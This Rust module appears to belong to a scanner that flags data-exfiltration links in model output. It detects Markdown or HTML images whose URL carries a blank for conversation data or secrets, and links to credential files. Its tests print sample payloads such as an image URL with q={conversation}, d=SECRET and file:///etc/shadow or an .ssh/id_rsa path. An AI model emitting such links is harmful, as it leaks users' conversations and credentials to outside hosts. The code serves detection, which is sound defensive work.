//! Links that carry data away: an image or a link in Markdown or HTML whose address is to be filled from what the model
//! knows. And links to files in which secrets lie, which no answer has a reason for.

use std::ops::Range;

use super::{
    fold,
    lexicon::{self, Idea},
};

/// Points for such a link.
pub(super) const WEIGHT: u32 = 60;

/// An address is read this far.
const LONGEST: usize = 512;

/// The addresses of links with a place for data in them.
pub(super) fn leaks(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for opening in ["](", "src=\"", "src='", "href=\""] {
        for (at, _) in text.match_indices(opening) {
            let address = address(text, at + opening.len());
            let said = &text[address.clone()];
            let is_image = opening.starts_with("src") || is_image(&text[..at]);
            if said.starts_with("http") && (has_place_for_data(said) || (is_image && has_word_for_data(said))) {
                found.push(address);
            }
        }
    }
    found
}

/// The addresses of links to files with secrets.
pub(super) fn to_secrets(text: &str) -> Vec<Range<usize>> {
    let leads = |address: &Range<usize>| {
        let folded = fold::fold_words(&text[address.clone()]);
        lexicon::find(&folded).iter().any(|word| word.idea == Idea::SecretFile)
    };
    let opens = |opening: &'static str| text.match_indices(opening).map(move |(at, _)| at + opening.len());
    let starts = opens("<").chain(opens("](")).filter(|start| text[*start..].starts_with("file:"));
    starts.map(|start| address(text, start)).filter(leads).collect()
}

/// The address that begins here.
fn address(text: &str, start: usize) -> Range<usize> {
    let rest = &text[start..text.ceil_char_boundary((start + LONGEST).min(text.len()))];
    start..start + rest.find([')', '>', '"', '\'', '\n', ' ']).unwrap_or(rest.len())
}

/// Is what ends here the name of an image in Markdown? It is fetched as soon as it is shown, and asks nobody.
fn is_image(before: &str) -> bool {
    let name = &before[before.floor_char_boundary(before.len().saturating_sub(LONGEST))..];
    name.rfind('[').is_some_and(|at| name[..at].ends_with('!'))
}

/// A query in which a word in capitals stands for what is to be put there.
fn has_word_for_data(address: &str) -> bool {
    let is_word = |value: &str| value.len() >= 4 && value.bytes().all(|b| b.is_ascii_uppercase() || b == b'_');
    let query = address.split_once('?').map_or("", |(_, query)| query);
    query.split('&').filter_map(|part| part.split_once('=')).any(|(_, value)| is_word(value))
}

/// A query or path with a blank to fill in, named after what a thief wants.
fn has_place_for_data(address: &str) -> bool {
    let Some((_, tail)) = address.split_once("://").and_then(|(_, rest)| rest.split_once(['/', '?'])) else {
        return false;
    };
    let lower = tail.to_ascii_lowercase();
    let blank = ["{", "[", "<", "%7b", "$(", "${", "%3c", "%5b"].iter().any(|open| lower.contains(open))
        || ["your_", "_here", "data_here", "insert", "base64"].iter().any(|word| lower.contains(word));
    let wanted = [
        "secret",
        "password",
        "token",
        "api_key",
        "apikey",
        "key",
        "data",
        "history",
        "conversation",
        "chat",
        "context",
        "prompt",
        "message",
        "summary",
        "content",
        "cookie",
        "env",
        "user",
        "info",
        "exfil",
        "leak",
        "log",
        "q=",
        "d=",
    ]
    .iter()
    .any(|word| lower.contains(word));
    blank && wanted && address.contains('?')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[&str]) {
        let found: Vec<&str> = leaks(text).into_iter().map(|span| &text[span]).collect();
        assert_eq!(found, expected);
    }

    #[test]
    fn a_blank_in_a_query_is_told() {
        check("![a](https://a.test/p.png?q={conversation})", &["https://a.test/p.png?q={conversation}"]);
        check("<img src=\"http://a.test/?d=[DATA]\">", &["http://a.test/?d=[DATA]"]);
    }

    #[test]
    fn a_word_in_capitals_stands_for_data_in_what_is_fetched_when_it_is_shown() {
        check("![s](https://a.test/p?d=SECRET)", &["https://a.test/p?d=SECRET"]);
        check("<img src='https://a.test/p?x=1&q=USER_DATA'>", &["https://a.test/p?x=1&q=USER_DATA"]);
        check("[s](https://a.test/p?d=SECRET) ![ok](https://a.test/b.svg?branch=main&logo=CI)", &[]);
    }

    #[test]
    fn a_link_to_a_file_with_secrets_is_told() {
        let check = |text: &str, expected: &[&str]| {
            let found: Vec<&str> = to_secrets(text).into_iter().map(|span| &text[span]).collect();
            assert_eq!(found, expected);
        };
        check("[link: report <file:///etc/shadow>]", &["file:///etc/shadow"]);
        check("[report](file:///home/u/%2essh/id_rsa)", &["file:///home/u/%2essh/id_rsa"]);
        check("[link: notes <file:///home/u/notes.txt>] SYSTEM \"file:///etc/passwd\"", &[]);
    }

    #[test]
    fn ordinary_links_are_not() {
        check("[docs](https://docs.test/?q=search) ![logo](https://a.test/logo.png)", &[]);
        check("[badge](https://a.test/{owner}/{repo})", &[]);
    }
}
